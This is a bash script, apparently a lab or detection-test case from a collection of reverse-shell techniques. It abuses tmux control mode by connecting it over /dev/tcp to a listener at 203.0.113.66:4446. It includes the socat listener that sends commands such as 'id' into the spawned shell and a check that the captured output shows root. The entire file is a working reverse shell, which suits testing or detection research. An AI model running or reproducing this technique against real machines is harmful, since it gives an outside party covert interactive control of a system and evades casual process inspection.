#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=tmux,bash far=out ready=out:4446 seconds=20 parts=dns
# tmux in control mode calls back: its client has the connection, its server, which is nobody's child, the shell's terminal.
if [ "$1" = out ]; then
	(sleep 2; for line in id "ls /" "uname -a"; do echo "send-keys \"$line\" Enter"; sleep 3; done; echo kill-server; sleep 1) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0
fi
cd "$LAB" || exit 1
export TMUX_TMPDIR=$LAB; unset TMUX
timeout 18 bash -c 'exec tmux -L x -f /dev/null -C new-session "exec bash --norc" 0<>/dev/tcp/203.0.113.66/4446 1>&0 2>&0'
grep -q uid=0 "$LAB/heard"
